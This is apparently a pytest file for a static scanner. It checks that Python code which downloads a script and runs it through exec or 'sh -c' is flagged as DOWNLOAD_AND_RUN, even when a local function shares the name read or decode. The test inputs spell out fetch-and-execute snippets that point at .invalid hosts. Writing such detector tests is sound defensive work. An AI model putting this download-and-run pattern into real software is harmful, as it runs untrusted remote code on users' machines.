"""A method called on a value no name holds (``urlopen(url).read()``, ``….read().decode()``) is that
value's method, not a call of the file's own function that shares its name (``def read(p)`` reading a
CSV): the download stays a download, and running it stays an error. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

_OWN_READ = "def read(p):\n    with open(p, encoding='utf-8') as f:\n        return f.read().splitlines()\n"


def test_a_download_read_beside_an_own_read_function_then_executed_is_an_error(tmp_path: Path) -> None:
    script = (
        "from urllib.request import urlopen\n"
        f"{_OWN_READ}"
        "def hooks(name):\n"
        "    src = urlopen(f'https://hooks.tally-cdn.invalid/{name}.py', timeout=9).read()\n"
        "    exec(compile(src, name, 'exec'), {})\n"
        "rows = read('data.txt')\n"
        "hooks('default')\n"
    )
    errors = scan_errors(tmp_path, {"scripts/tally.py": script})
    assert ("DOWNLOAD_AND_RUN", "scripts/tally.py", 7) in errors


def test_a_download_decoded_beside_an_own_decode_function_then_run_by_a_shell_is_an_error(tmp_path: Path) -> None:
    script = (
        "import subprocess, urllib.request\n"
        "def decode(raw):\n"
        "    return raw.strip().split(',')\n"
        "URL = 'https://setup.rowcount.invalid/steps.sh'\n"
        "fields = decode(' a,b ')\n"
        "subprocess.run(['sh', '-c', urllib.request.urlopen(URL).read().decode()], check=True)\n"
    )
    errors = scan_errors(tmp_path, {"tools/prepare.py": script})
    assert ("DOWNLOAD_AND_RUN", "tools/prepare.py", 6) in errors


def test_a_download_parsed_as_data_beside_an_own_read_function_stays_quiet(tmp_path: Path) -> None:
    script = (
        "import json\n"
        "from urllib.request import urlopen\n"
        f"{_OWN_READ}"
        "zones = json.loads(urlopen('https://zones.fares-data.invalid/zones.json').read())\n"
        "rows = read('stops.txt')\n"
        "print(len(rows), len(zones))\n"
    )
    assert not scan_errors(tmp_path, {"scripts/zones.py": script})
